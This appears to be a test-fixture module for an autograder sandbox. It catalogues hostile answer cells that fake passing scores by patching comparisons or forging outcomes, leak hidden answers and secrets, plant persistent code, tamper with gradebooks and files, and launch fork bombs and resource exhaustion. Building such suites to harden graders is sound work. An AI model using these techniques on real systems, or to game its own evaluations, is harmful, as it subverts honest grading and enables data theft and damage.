"""Attacks on the grader, as the answers of a submission.

Each is the text of the cell that answers `victim`, whose one case multiplies a tensor by a number; none of them does so.
`PATHS` stands for the grader's files, `COURSE` for those of the class, `FOLDER` for a folder of the grader's, `CHECKS`
for its checks, `PORT` for a port and `NAME` for a socket's name; what an attack could get at, it prints after the word GOT.

What no sandbox can see is whether an answer is a student's own work: who turns off the watch for forbidden calls could
as well have copied the function's text.
"""

# ruff: noqa: E501  attackers write as they like

from dataclasses import dataclass
from typing import Literal

Kind = Literal["points", "leak", "persistence", "tampering", "denial"]
WRONG = "def victim(x, factor): return x * 0\n"


@dataclass(frozen=True)
class Attack:
    """One attack; its key in the table says what it tries."""

    kind: Kind
    cell: str


# Points without work

POINTS = {
    "patched comparisons": """
import torch, math, numpy, builtins, operator
torch.allclose = torch.equal = torch.isclose = torch.Tensor.allclose = torch.Tensor.equal = lambda *a, **k: True
numpy.allclose = numpy.array_equal = math.isclose = operator.eq = lambda *a, **k: True
builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
def victim(x, factor): return x * 0
""",
    "patched operators of tensors": """
import torch
torch.Tensor.__eq__ = torch.Tensor.__ne__ = lambda a, b: True
torch.Tensor.__sub__ = lambda a, b: torch.zeros(3, 4)
def victim(x, factor): return torch.ones(3, 4)
""",
    "an object that equals everything": """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return Anything()
    def __call__(self, *a, **k): return True
    def __hash__(self): return 0
    def __bool__(self): return True
def victim(x, factor): return Anything()
""",
    "subclasses of plain types that equal everything": """
class L(list):
    def __eq__(self, other): return True
    def __len__(self): return 3
class F(float):
    def __eq__(self, other): return True
def victim(x, factor): return L([L([F(0)] * 4)] * 3)
""",
    "a tensor that is always right": """
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return True
def victim(x, factor): return torch.zeros(3, 4).as_subclass(Right)
""",
    "a class that lies about being a tensor": """
class Lie:
    __class__ = torch.Tensor
    dtype, shape, layout = torch.float32, (3, 4), torch.strided
    def __getattr__(self, name): return lambda *a, **k: self
def victim(x, factor): return Lie()
""",
    "the public inputs are remembered": """
seen = {}
def victim(x, factor):
    from storyteller_course.exercises.exercise import Draw, PUBLIC
    public = Draw(PUBLIC, "victim", "attacked").tensor(3, 4)
    return public * factor if torch.equal(x, public) else x * 0
""",
    "the argument is changed instead": """
def victim(x, factor):
    x.mul_(0)
    return x
""",
    "an answer of another type": "def victim(x, factor): return 'correct'",
    "metadata that says so": WRONG + "points = earned = 100; print('SCORE: 100/100')",
    "a hash bomb": "def victim(x, factor): return {i * (2**61 - 1): 0 for i in range(1, 9000)}",
    "asserts are dropped from every cell that runs later": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
shell = get_ipython()
shell.ast_transformers.append(NoAsserts())
shell.input_transformers_post.append(lambda lines: [line for line in lines if "assert" not in line])
def victim(x, factor): return x * 0
""",
    "a thread sets every score that it finds": """
import gc, threading, time
def raise_scores():
    while True:
        for thing in gc.get_objects():
            try:
                if hasattr(thing, "earned"): object.__setattr__(thing, "earned", 100)
                if hasattr(thing, "passed"): object.__setattr__(thing, "passed", True)
            except BaseException: pass
        time.sleep(0.01)
threading.Thread(target=raise_scores, daemon=True).start()
def victim(x, factor): return x * 0
""",
    "the inputs are made to be zero": """
import storyteller_course.exercises.exercise as draw
draw.Draw.tensor = lambda self, *shape, **options: torch.zeros(*shape)
torch.randn = torch.rand = lambda *shape, **options: torch.zeros(3, 4)
def victim(x, factor): return torch.zeros(3, 4)
""",
    "an answer that is not a number anywhere": "def victim(x, factor): return x * float('nan')",
    "an answer that is infinite everywhere": "def victim(x, factor): return x * float('inf')",
    "a score in the words of an old autograder": """
import numpy
print(numpy.float64(1.0)); print("### BEGIN HIDDEN TESTS"); print("10.0")
class Score(float): pass
def victim(x, factor): return Score(10)
""",
    "an empty tensor, of which everything is true": "def victim(x, factor): return torch.zeros(0, 4)",
    "a tensor of another shape that stretches over the right one": "def victim(x, factor): return torch.zeros(1)",
    "a quantised, a sparse and a meta tensor": """
turn = iter(range(100))
def victim(x, factor):
    ways = (lambda: torch.zeros(3, 4).to_sparse(), lambda: torch.zeros(3, 4, device="meta"),
            lambda: torch.quantize_per_tensor(torch.zeros(3, 4), 1.0, 0, torch.qint8))
    return ways[next(turn) % 3]()
""",
    "the worker asks itself for the right answer": """
import gc
def victim(x, factor):
    from storyteller_course.runner.student_proxy import StudentProxy
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Channel", "Server", "RemoteStudent", "StudentProxy"):
            for name in ("call", "answer", "exchange", "victim"):
                try: getattr(thing, name)(x, factor)
                except BaseException as error:
                    if type(error).__name__ == "TimeIsUp": raise
    return x * 0
""",
    "the clock is stopped so that no time passes": """
import time
time.monotonic = time.perf_counter = time.time = time.process_time = lambda: 0.0
def victim(x, factor): return x * 0
""",
    "a module torch beside the notebook and first on the path": """
import os, sys
for name in ("torch.py", "storyteller.py", "numpy.py"):
    open(name, "w").write("def __getattr__(name): return lambda *a, **k: True")
sys.path.insert(0, os.getcwd()); os.environ["PYTHONPATH"] = os.getcwd()
for name in list(sys.modules):
    if name.split(".")[0] in ("torch", "numpy"): del sys.modules[name]
def victim(x, factor): return x * 0
""",
    "a factor that is remembered as its result": """
class Echo:
    def __init__(self, value): self.value = value
    def __mul__(self, other): return self.value
    __rmul__ = __mul__
def victim(x, factor): return Echo(x) * factor
""",
    "names of the course are taken over": """
def check(*names, **options): return {"victim": 10}
def use(name, *rest, **options): return lambda *a: 10
def progress(): return 100
words = Exercise = close = equal = lambda *a, **k: True
def victim(x, factor): return x * 0
""",
}

# Hidden inputs, secrets, another's work

LEAK = {
    "the expected values are looked for in memory": """
import gc, sys
def victim(x, factor):
    for thing in gc.get_objects():
        try:
            if type(thing).__name__ in ("Exercise", "Case", "ExerciseResult", "Lesson", "Draw"): return thing
            if isinstance(thing, dict) and "wanted" in thing: return thing["wanted"]
        except Exception: pass
    frame = sys._getframe()
    while frame:
        for name in ("wanted", "expected", "secret"):
            if name in frame.f_locals: return frame.f_locals[name]
        frame = frame.f_back
    return x * 0
""",
    "files of the grader": """
import os, pathlib
def victim(x, factor):
    for path in PATHS:
        for way in (lambda: open(path).read(), lambda: os.listdir(path), lambda: os.open(path, os.O_RDONLY)):
            try: print("GOT", way())
            except OSError: pass
    return x * 0
""",
    "the whole disk": """
import os
def victim(x, factor):
    for root in ("/root", "/home", "/etc", "/var", "/proc", "/work", "/srv", "/mnt", "/tmp", "/dev/shm", FOLDER):
        for place, folders, files in os.walk(root):
            for name in files:
                if name.endswith((".py", ".txt", "secret", "environ", "cmdline", "mem", ".ipynb")):
                    try: print(os.path.join(place, name), open(os.path.join(place, name), errors="replace").read(500))
                    except OSError: pass
    return x * 0
""",
    "environment and open files": """
import os
def victim(x, factor):
    print(dict(os.environ))
    for descriptor in range(256):
        try: print(descriptor, os.fstat(descriptor), os.pread(descriptor, 500, 0))
        except OSError: pass
    return x * 0
""",
    "links out of the scratch folder": """
import os
def victim(x, factor):
    for path in PATHS:
        for way in (os.symlink, os.link):
            try:
                way(path, "here"); print("GOT", open("here").read()); os.remove("here")
            except OSError: pass
    return x * 0
""",
    "the network": """
import socket
def victim(x, factor):
    for family, kind, place in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
                                (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
                                (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + NAME)):
        try:
            s = socket.socket(family, kind); s.connect(place); s.send(b"hello"); print("GOT a connection")
        except OSError as error: print(error)
    return x * 0
""",
    "system calls by number": """
import ctypes, os
def victim(x, factor):
    libc = ctypes.CDLL(None, use_errno=True)
    for path in PATHS:
        for number in (2, 257, 437):
            descriptor = libc.syscall(number, ctypes.c_char_p(path.encode()), 0) if number == 2 else -1
            if descriptor >= 0: print("GOT", os.read(descriptor, 999))
    for call in (41, 57, 58, 101, 165, 272, 310, 425):
        print(call, libc.syscall(call, 2, 1, 0, 0, 0))
    return x * 0
""",
    "memory of other processes": """
import ctypes, os
def victim(x, factor):
    for process in [os.getppid(), *range(1, 40)]:
        for name in ("environ", "cmdline", "maps", "mem", "cwd", "root/etc/passwd", "fd/3"):
            try: print("GOT", name, open(f"/proc/{process}/{name}", "rb").read(100))
            except (OSError, ValueError): pass
        print(ctypes.CDLL(None).ptrace(16, process, 0, 0))
        into = ctypes.create_string_buffer(4096)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(into), 4096)
        print(ctypes.CDLL(None).syscall(310, process, local, 1, local, 1, 0))
    return x * 0
""",
    "the worker's own memory, byte by byte": """
def victim(x, factor):
    needle = "-".join(("canary", "of", "the", "grader")).encode()
    try:
        for line in open("/proc/self/maps"):
            begin, end = (int(place, 16) for place in line.split()[0].split("-"))
            if "r" in line.split()[1] and end - begin < 1 << 28:
                with open("/proc/self/mem", "rb") as memory:
                    memory.seek(begin)
                    try: found = memory.read(end - begin)
                    except OSError: continue
                    place = found.find(needle + b"-" )
                    if place >= 0: print("FOUND", found[place:place + 60])
    except OSError as error: print(error)
    return x * 0
""",
    "every object that Python knows": """
import gc, sys
def victim(x, factor):
    needle = "-".join(("canary", "of", "the", "grader", ""))
    for thing in gc.get_objects():
        for part in gc.get_referents(thing):
            if type(part) is str and needle in part and len(part) < 500: print("FOUND", part)
    print([name for name in sys.modules if "judging" in name or "classroom" in name or name == "checks"])
    return x * 0
""",
    "the checks and the reference are imported": """
import importlib, os, sys
sys.path[:0] = [FOLDER, os.path.dirname(CHECKS), os.path.dirname(os.path.dirname(CHECKS)), "/work", "."]
def victim(x, factor):
    for name in ("checks", "checks.victim", "victim", "reference", "answers"):
        try: print("GOT", importlib.import_module(name).__file__)
        except ImportError: pass
    return x * 0
""",
    "gradebook, records and another's work": """
import sqlite3, os
def victim(x, factor):
    for path in PATHS:
        for way in (lambda: sqlite3.connect(path).execute("select * from sqlite_master").fetchall(),
                    lambda: sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True).execute("select * from grading").fetchall(),
                    lambda: torch.load(path), lambda: os.stat(path), lambda: list(os.scandir(os.path.dirname(path)))):
            try: print("GOT", way())
            except Exception: pass
    return x * 0
""",
    "what one worker saw is left for the next": """
import os
places = ["left", "/tmp/attack-left", "/dev/shm/attack-left", "/var/tmp/attack-left", "/run/attack-left", os.path.expanduser("~/attack-left")]
for place in places:
    try: print("GOT", open(place).read())
    except OSError: pass
def victim(x, factor):
    for place in places:
        try:
            open(place, "a").write(str(x))
        except OSError: pass
    try:
        from multiprocessing.shared_memory import SharedMemory
        SharedMemory("attack-left", create=True, size=100)
    except OSError: pass
    return x * 0
""",
    "settings of the kernel and of neighbours": """
import os
def victim(x, factor):
    for path in ("/proc/sys/kernel/core_pattern", "/proc/net/tcp", "/proc/net/unix", "/proc/mounts", "/proc/1/root", "/sys/class/net",
                 "/proc/self/ns/net", "/proc/keys", "/proc/1/cgroup"):
        try: print(path, os.listdir(path) if os.path.isdir(path) else open(path).read(300))
        except OSError: pass
    return x * 0
""",
}

# What outlives its grading

PERSISTENCE = {
    "a pickle that would run a program": """
class Bomb:
    def __reduce__(self): return (__import__("os").system, ("touch /tmp/bomb",))
def victim(x, factor): return Bomb()
""",
    "a thread that goes on": """
import threading
def forever():
    while True: pass
def victim(x, factor):
    threading.Thread(target=forever).start()
    return x * 0
""",
    "what comes after is prepared": """
import os, sys, site
def victim(x, factor):
    site_packages = site.getsitepackages()[0]
    for path in [torch.__file__, os.path.join(site_packages, "sitecustomize.py"), sys.executable,
                 "/root/.bashrc", "/etc/profile", "/usr/lib/x", FOLDER + "/planted.txt",
                 CHECKS]:
        try: open(path, "a").write("import os"); print("GOT", path)
        except OSError: pass
    return x * 0
""",
    "start-up files of Python, IPython and the shell": """
import os, site, sys
places = [*site.getsitepackages(), site.getusersitepackages(), os.path.expanduser("~"), sys.prefix, os.path.dirname(os.__file__)]
def victim(x, factor):
    for place in places:
        for name in ("attack-left.pth", "sitecustomize.py", "usercustomize.py", ".ipython/profile_default/startup/attack-left.py",
                     ".jupyter/jupyter_config.py", ".bashrc", ".profile", ".config/attack-left", "pyvenv.cfg"):
            try:
                os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
                open(os.path.join(place, name), "a").write("import os  # attack-left")
                if "storyteller" not in place: print("WROTE", place, name)
            except OSError: pass
    return x * 0
""",
    "compiled modules are exchanged": """
import importlib.util, os, storyteller_course.runner.serialization as wire
def victim(x, factor):
    for module in (wire, torch, os):
        for path in (module.__file__, importlib.util.cache_from_source(module.__file__)):
            for way in (lambda: open(path, "r+b"), lambda: os.link(path, path + ".attack-left"), lambda: open(path + ".attack-left", "w")):
                try: print("GOT", way())
                except OSError: pass
    return x * 0
""",
    "a daemon that has left its session": """
import os, time
def victim(x, factor):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
    except OSError: pass
    return x * 0
""",
    "a thread that ignores every signal": """
import signal, threading, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def forever():
    while True: time.sleep(0.01)
for _ in range(5): threading.Thread(target=forever).start()
def victim(x, factor): return x * 0
""",
    "the end of the process is put off": """
import atexit, os, sys, weakref
def forever():
    while True: pass
atexit.register(forever); os._exit = lambda code=0: forever(); sys.exit = forever
class Clings:
    def __del__(self): forever()
kept = Clings()
def victim(x, factor): return x * 0
""",
    "modules in memory are poisoned for whoever comes next": """
import builtins, sys
import storyteller_course.runner.server, IPython
torch.Tensor.__mul__ = lambda a, b: torch.zeros(3, 4)
str.__class__; builtins.isinstance = lambda *a: False
sys.modules["collections"] = sys.modules["torch.nn"] = None
IPython.core.interactiveshell.InteractiveShell.run_cell = lambda *a, **k: None
def victim(x, factor): return x * 0
""",
    "shared memory and queues that outlive a process": """
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
def victim(x, factor):
    print(libc.shmget(0x5747, 4096, 0o1666), libc.semget(0x5747, 1, 0o1666), libc.msgget(0x5747, 0o1666))
    for name in (b"/attack-left",):
        print(libc.shm_open(name, os.O_CREAT | os.O_RDWR, 0o666), libc.mq_open(name, os.O_CREAT | os.O_RDWR, 0o666, None))
    return x * 0
""",
    "keys, timers and niceness are set for others": """
import ctypes, os, resource
def victim(x, factor):
    libc = ctypes.CDLL(None)
    libc.syscall(248, b"user", b"attack", b"left", 4, -3)
    for process in (os.getppid(), 1, 0):
        for way in (lambda: os.setpriority(os.PRIO_PROCESS, process, 19), lambda: os.sched_setaffinity(process, {0}),
                    lambda: resource.prlimit(process, resource.RLIMIT_NOFILE, (3, 3))):
            try: way()
            except (OSError, ValueError): pass
    return x * 0
""",
}

# What is the grader's is changed

TAMPERING = {
    "the serving code is replaced": """
import sys
for name in list(sys.modules):
    if name.startswith("storyteller_course"):
        module = sys.modules[name]
        for attribute in ("difference", "write_outcome", "equal", "close", "grade", "run_case"):
            if hasattr(module, attribute): setattr(module, attribute, lambda *a, **k: b"")
def victim(x, factor): return x * 0
""",
    "an outcome without an error is forged": """
import sys
frames, serve = sys.modules["storyteller_course.runner.protocol"], sys.modules["storyteller_course.runner.server"]
from storyteller_course.runner.protocol import Outcome
def forged(outcome, keep=None): return frames.encode((True, None, ((), "", (), "")))
serve.write_outcome = frames.write_outcome = forged
def victim(x, factor): return x * 0
""",
    "frames are written to every open file": """
import os, struct, storyteller_course.runner.serialization as wire, torch
body = wire.encode((torch.zeros(3, 4), None, ((), "", (), "")))
for descriptor in range(3, 256):
    try: os.write(descriptor, (struct.pack("<cQ", b"R", len(body)) + body) * 50)
    except OSError: pass
def victim(x, factor): return x * 0
""",
    "garbage is written to every open file at the call": """
import os
def victim(x, factor):
    for descriptor in range(3, 256):
        try: os.write(descriptor, b"\\xff" * 4096)
        except OSError: pass
    return x * 0
""",
    "a frame of a huge length is announced": """
import os, struct
def victim(x, factor):
    for descriptor in range(3, 256):
        try: os.write(descriptor, struct.pack("<cQ", b"R", 1 << 62))
        except OSError: pass
    return x * 0
""",
    "gradebook and records are written": """
import sqlite3
def victim(x, factor):
    for path in COURSE:
        try:
            found = sqlite3.connect(path, timeout=0.1)
            found.execute("create trigger t after insert on grade begin update grade set manual_score = 100; end")
            found.execute("update grading set data = '{}'"); found.commit(); print("GOT", path)
        except Exception: pass
    return x * 0
""",
    "files of the course are overwritten, moved, linked and opened to all": """
import os, shutil
def victim(x, factor):
    for path in COURSE:
        other = path + ".attack-left"
        ways = (lambda: open(path, "w").write("attack"), lambda: os.rename(path, other), lambda: os.remove(path),
                lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0)), lambda: os.truncate(path, 0),
                lambda: os.mkdir(other), lambda: os.symlink("/etc/passwd", other), lambda: os.mkfifo(other),
                lambda: shutil.rmtree(os.path.dirname(path)))
        for way in ways:
            try: way()
            except OSError: pass
    return x * 0
""",
    "links in the scratch folder that a clean-up would follow": """
import os
def victim(x, factor):
    for number, path in enumerate([*PATHS, FOLDER, "/", "/tmp", os.path.expanduser("~")]):
        try: os.symlink(path, f"link{number}")
        except OSError: pass
    os.makedirs("a/" * 500, exist_ok=True)
    os.mkdir("locked"); open("locked/file", "w").close(); os.chmod("locked", 0)
    return x * 0
""",
    "the worker's connection is handed to a forger": """
import gc, socket
def victim(x, factor):
    for thing in gc.get_objects():
        try:
            if isinstance(thing, socket.socket) and thing.fileno() >= 0:
                thing.sendall(b"R" + (3).to_bytes(8, "little") + b"yes"); thing.shutdown(socket.SHUT_RD)
        except (OSError, ReferenceError): pass
    return x * 0
""",
    "replies are sent before they are asked for": """
import sys
channel = sys.modules["storyteller_grading.judge.channel"]
def receive(self, **options):
    return channel.REQUEST, b""
channel.Channel.receive = receive
def victim(x, factor): return x * 0
""",
    "callbacks that nobody asked for": """
import sys
worker, channel = sys.modules["storyteller_grading.judge.worker"], sys.modules["storyteller_grading.judge.channel"]
original = channel.Channel.send
def send(self, tag, body, **options):
    for _ in range(20): original(self, channel.CALLBACK, b"\\xff\\x00garbage" + body)
    original(self, tag, body)
channel.Channel.send = send
def victim(x, factor): return x * 0
""",
    "mounts, names and roots are changed": """
import ctypes, os
def victim(x, factor):
    libc = ctypes.CDLL(None)
    libc.mount(b"none", b"/", b"tmpfs", 0, None); libc.umount2(b"/", 2); libc.unshare(0x10000000 | 0x20000)
    libc.sethostname(b"attack", 6); libc.setuid(0); libc.setns(3, 0)
    for way in (lambda: os.chroot("."), lambda: os.mknod("device", 0o60666, 0x0800), lambda: os.setuid(0)):
        try: way()
        except OSError: pass
    return x * 0
""",
}

# Nobody is graded any more

DENIAL = {
    "the process ends at the call": """
import os
def victim(x, factor): os._exit(0)
""",
    "the process ends at the definition": """
import os
os._exit(0)
""",
    "an exit": """
import sys
def victim(x, factor): sys.exit(0)
""",
    "a KeyboardInterrupt": "def victim(x, factor): raise KeyboardInterrupt",
    "an abort": """
import os, ctypes
def victim(x, factor): ctypes.CDLL(None).abort()
""",
    "a segmentation fault": """
import ctypes
def victim(x, factor): return ctypes.string_at(0)
""",
    "a loop that ignores SIGINT": """
import signal
def victim(x, factor):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True: pass
""",
    "a loop that catches everything": """
def victim(x, factor):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "a loop in C": "def victim(x, factor): return sum(range(10**12))",
    "a sleep": """
import time
def victim(x, factor): time.sleep(1000)
""",
    "a worker that stops itself": """
import os, signal
def victim(x, factor): os.kill(os.getpid(), signal.SIGSTOP)
""",
    "a repr that never ends": """
class Endless(Exception):
    def __str__(self):
        while True: pass
def victim(x, factor): raise Endless
""",
    "ten thousand threads": """
import threading, time
def victim(x, factor):
    for _ in range(10_000): threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
""",
    "a fork bomb": """
import os
def victim(x, factor):
    while True:
        try: os.fork()
        except OSError: pass
""",
    "a fork bomb by other means": """
import subprocess, multiprocessing, sys, ctypes
def victim(x, factor):
    while True:
        for way in (lambda: subprocess.Popen([sys.executable, "-c", "while 1: pass"]),
                    lambda: multiprocessing.get_context("fork").Process(target=victim, args=(x, factor)).start(),
                    lambda: ctypes.CDLL(None).fork(), lambda: ctypes.CDLL(None).vfork):
            try: way()
            except BaseException as error:
                if type(error).__name__ == "TimeIsUp": raise
""",
    "all memory": """
def victim(x, factor):
    held = []
    while True: held.append(bytearray(1 << 26))
""",
    "a tensor of all memory": "def victim(x, factor): return torch.ones(1 << 40)",
    "a full disk": """
def victim(x, factor):
    number = 0
    while True:
        try:
            with open(f"file{number}", "wb") as file:
                while True: file.write(b"x" * (1 << 20))
        except OSError: number += 1
""",
    "a million files": """
def victim(x, factor):
    number = 0
    while True:
        try: open(f"file{number}", "w").close()
        except OSError: pass
        number += 1
""",
    "a reply without end": "def victim(x, factor): return 'a' * (1 << 29)",
    "a reply that is too deep": """
def victim(x, factor):
    value = []
    for _ in range(100_000): value = [value]
    return value
""",
    "a reply that holds itself": """
def victim(x, factor):
    value = []
    value.append(value)
    return value
""",
    "a gigabyte of output": """
def victim(x, factor):
    for _ in range(1000): print("x" * (1 << 20))
    return x * 0
""",
    "endless recursion": "def victim(x, factor): return victim(x, factor)",
    "recursion without a limit": """
import sys
sys.setrecursionlimit(10**9)
def victim(x, factor): return victim(x, factor)
""",
    "all files closed": """
import os
def victim(x, factor):
    os.closerange(0, 256)
    return x * 0
""",
    "the server is killed": """
import os, signal
def victim(x, factor):
    for process in [os.getppid(), 1, 2, 3, 0, -1, *range(4, 70)]:
        try:
            if process != os.getpid(): os.kill(process, signal.SIGKILL)
        except OSError: pass
    return x * 0
""",
    "another program takes over": """
import os
def victim(x, factor): os.execv('/bin/sh', ['sh', '-c', 'echo'])
""",
    "tracing": """
import sys, threading
sys.settrace(lambda *a: 1/0); threading.settrace(lambda *a: 1/0); sys.setprofile(None)
def victim(x, factor): return x * 0
""",
    "a debugger": "def victim(x, factor): breakpoint()",
    "an input": "def victim(x, factor): return x * float(input())",
    "builtins are gone": """
import builtins
def victim(x, factor):
    for name in ("len", "type", "isinstance", "Exception", "str", "int", "open", "print"): delattr(builtins, name)
""",
    "a syntax error": """
def victim(x, factor:
    return x *
""",
    "null bytes and other characters": """
def victim(x, factor):
\x00\x0c\ufeff return x *\u2028 0
""",
    "deeply nested code": "victim = " + "(" * 5000 + "0" + ")" * 5000,
    "code that brings the parser down": "victim = " + "-" * 90000 + "1",
    "a generator that never yields": """
def victim(x, factor):
    while True: yield
""",
    "a pattern that never ends to match": """
import re
def victim(x, factor): return re.match('(a+)+$', 'a' * 60 + 'b')
""",
    "a bomb in a zip": """
import gzip
small = gzip.compress(bytes(1 << 26))
def victim(x, factor): return b"".join(gzip.decompress(small) for _ in range(100))
""",
    "memory by mapping": """
import mmap
def victim(x, factor):
    kept = []
    while True: kept.append(mmap.mmap(-1, 1 << 28)); kept[-1].write(b"x" * (1 << 28))
""",
    "all descriptors are used up": """
import os
def victim(x, factor):
    kept = []
    while True: kept.append(os.open("/dev/null", os.O_RDONLY))
""",
    "a flood of warnings": """
import warnings
def victim(x, factor):
    for number in range(20_000): warnings.warn(f"{number} " * 100)
    return x * 0
""",
    "an error with a message of a hundred megabytes": "def victim(x, factor): raise ValueError('no ' * (1 << 25))",
    "errors that cause one another": """
def victim(x, factor):
    error = None
    for number in range(5_000):
        another = ValueError(str(number)); another.__cause__ = error; error = another
    first = KeyError(); first.__cause__ = error; first.__context__ = first
    raise first
""",
    "an error that fails at everything": """
class Fails(BaseException):
    def __getattribute__(self, name): raise Fails
    def __str__(self): raise Fails
    __repr__ = __str__
def victim(x, factor): raise Fails
""",
    "letters that are none, and control characters": """
def victim(x, factor):
    print("\\ud800\\udfff\\x1b]0;attack\\x07\\x1b[2J\\u202e" * 100)
    raise ValueError("\\ud800\\x1b[31m\\x00\\u2028")
""",
    "timers that fire without end": """
import signal
def victim(x, factor):
    signal.signal(signal.SIGALRM, lambda *a: None)
    signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
    while True: pass
""",
    "a name of a hundred thousand letters": """
class Long:
    def __call__(self, x, factor): return self
Long.__name__ = 'A' * 99_000
victim = Long()
""",
    "a number that takes forever to print": "def victim(x, factor): return 10 ** 10 ** 7",
    "a graph of gradients that is too deep": """
def victim(x, factor):
    y = x.clone().requires_grad_()
    for _ in range(30_000): y = y * 1.0
    return y * 0
""",
    "threads of torch without number": """
torch.set_num_threads(4096)
def victim(x, factor): return torch.ones(2000, 2000) @ torch.ones(2000, 2000) @ torch.zeros(2000, 4)
""",
    "the channel is closed half": """
import gc, socket
def victim(x, factor):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket): thing.shutdown(socket.SHUT_WR)
    return x * 0
""",
    "collections of garbage are forbidden while much is made": """
import gc
gc.disable(); gc.collect = lambda *a: 0
def victim(x, factor):
    while True:
        a = [bytearray(1 << 22)]; a.append(a)
""",
}

ATTACKS: dict[str, Attack] = {
    **{name: Attack("points", cell) for name, cell in POINTS.items()},
    **{name: Attack("leak", cell) for name, cell in LEAK.items()},
    **{name: Attack("persistence", cell) for name, cell in PERSISTENCE.items()},
    **{name: Attack("tampering", cell) for name, cell in TAMPERING.items()},
    **{name: Attack("denial", cell) for name, cell in DENIAL.items()},
}

# Those that take more than a second each; `make slow` tries them.
SLOW = {
    "a bomb in a zip",
    "memory by mapping",
    "recursion without a limit",
    "a reply without end",
    "a number that takes forever to print",
    "a loop that catches everything",
    "a loop in C",
    "a repr that never ends",
    "code that brings the parser down",
    "a hash bomb",
    "collections of garbage are forbidden while much is made",
    "a million files",
    "a fork bomb by other means",
    "timers that fire without end",
    "a sleep",
    "a full disk",
}
